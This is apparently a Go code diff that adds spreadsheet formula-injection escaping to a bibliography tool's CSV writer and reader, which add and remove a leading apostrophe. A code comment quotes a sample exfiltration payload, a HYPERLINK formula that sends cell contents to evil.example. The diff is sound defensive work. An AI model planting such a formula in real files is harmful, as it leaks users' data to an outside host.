@@ -293,7 +293,7 @@ func (r *Reader) mapRow(row []string) biblio.Record {
 		if !ok || i >= len(row) {
 			return ""
 		}
-		return fixEncoding(row[i])
+		return unprotect(fixEncoding(row[i]))
 	}
 	var rec biblio.Record
 	p := &rec.Paper
@@ -305,7 +305,7 @@ func (r *Reader) mapRow(row []string) biblio.Record {
 	p.Issue = get("issue")
 	p.Pages = get("pages")
 	if r.pageEnd >= 0 && r.pageEnd < len(row) {
-		if end := strings.TrimSpace(fixEncoding(row[r.pageEnd])); end != "" && strings.TrimSpace(p.Pages) != "" {
+		if end := strings.TrimSpace(unprotect(fixEncoding(row[r.pageEnd]))); end != "" && strings.TrimSpace(p.Pages) != "" {
 			p.Pages = strings.TrimSpace(p.Pages) + "-" + end
 		}
 	}
@@ -399,6 +399,19 @@ func mapMark(s string) string {
 
 // Writer writes Quarry's CSV export: a header of "id" and Fields, one row
 // per record, which the reader maps back without an override.
+//
+// CSV exports are opened in spreadsheets, which run a cell that starts
+// with = + - or @ (or a tab or carriage return before one) as a formula: a
+// title like =HYPERLINK("http://evil.example/?x="&A1,"click") would leak
+// the sheet when clicked. So every cell that starts with zero or more
+// apostrophes and then one of those characters is written with one more
+// apostrophe in front ("=1+1" → "'=1+1", "'=x" → "''=x"), which
+// spreadsheets show as text; the reader takes exactly one leading
+// apostrophe off a cell that starts with one or more apostrophes and then
+// one of those characters. Any other cell, one that starts with an
+// apostrophe included ("'Tis the season"), is written and read as it is,
+// so every value round-trips and a file from another tool loses an
+// apostrophe only where this rule put one.
 type Writer struct {
 	cw      *csv.Writer
 	started bool
@@ -445,6 +458,9 @@ func (w *Writer) Write(rec biblio.Record) error {
 		p.ID, p.Title, cell, year, p.Venue, p.Volume, p.Issue, p.Pages, p.Abstract,
 		p.DOI, p.PMID, p.ArxivID, p.URL, strings.Join(rec.Keywords, "; "), rec.Type, rec.Mark, rec.Note,
 	}
+	for i := range row {
+		row[i] = protect(row[i])
+	}
 	if err := w.cw.Write(row); err != nil {
 		return fmt.Errorf("csvfile: write: %w", err)
 	}
@@ -462,4 +478,29 @@ func (w *Writer) Close() error {
 		return fmt.Errorf("csvfile: flush: %w", err)
 	}
 	return nil
+}
+
+// formulaStart reports whether s starts with zero or more apostrophes and
+// then a character that makes a spreadsheet read the cell as a formula
+// (see Writer).
+func formulaStart(s string) bool {
+	s = strings.TrimLeft(s, "'")
+	return s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0
+}
+
+// protect puts an apostrophe before a cell a spreadsheet would run as a
+// formula (see Writer).
+func protect(s string) string {
+	if formulaStart(s) {
+		return "'" + s
+	}
+	return s
+}
+
+// unprotect takes off the apostrophe protect put on (see Writer).
+func unprotect(s string) string {
+	if strings.HasPrefix(s, "'") && formulaStart(s) {
+		return s[1:]
+	}
+	return s
 }
